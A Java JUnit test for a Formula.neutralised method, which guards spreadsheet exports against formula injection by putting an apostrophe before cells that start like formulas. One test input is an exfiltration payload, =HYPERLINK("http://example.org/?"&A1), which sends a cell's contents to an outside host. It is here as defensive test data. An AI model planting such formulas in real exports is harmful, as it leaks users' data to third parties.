package dk.indsigt.service.rights.pack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaTest {
    @ParameterizedTest
    @DisplayName("a cell that begins like a formula gets an apostrophe in front")
    @ValueSource(
            strings = {
                "=1+1",
                "+4520304050",
                "-2",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1",
                "=HYPERLINK(\"http://example.org/?\"&A1)"
            })
    void formulas(String cell) {
        assertEquals("'" + cell, Formula.neutralised(cell));
    }

    @ParameterizedTest
    @DisplayName("any other cell stays as it is")
    @ValueSource(strings = {"Anna", "1", "a=b", "'", "", " =1", "Øster Allé"})
    void others(String cell) {
        assertEquals(cell, Formula.neutralised(cell));
    }

    @Test
    @DisplayName("nothing stays nothing")
    void nothing() {
        assertNull(Formula.neutralised(null));
    }
}
